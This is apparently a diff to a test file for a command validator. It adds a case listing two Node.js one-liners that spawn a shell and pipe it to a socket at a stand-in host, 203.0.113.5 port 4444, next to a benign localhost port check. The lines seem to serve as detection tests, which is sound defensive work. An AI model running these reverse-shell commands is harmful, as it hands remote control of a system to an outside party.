@@ -29,3 +29,12 @@ describeCommands(
     "git log -p -S API_SECRET -- src/env.ts",
   ],
 );
+
+describeCommands(
+  "a shell's streams are joined to no socket, whatever the module is bound to",
+  [
+    "node -e \"const k=require('net'),s=require('child_process').spawn('/bin/sh');const c=k.connect(4444,'203.0.113.5');c.pipe(s.stdin);s.stdout.pipe(c)\"",
+    "R=203.0.113.5; node -e \"const k=require('node:net'),s=require('child_process').spawn('bash',['-i']);k.connect(4444,'$R',function(){this.pipe(s.stdin);s.stdout.pipe(this)})\"",
+  ],
+  ["node -e \"require('net').connect(5432,'localhost').on('connect',()=>process.exit(0)).on('error',()=>process.exit(1))\""],
+); // prettier-ignore
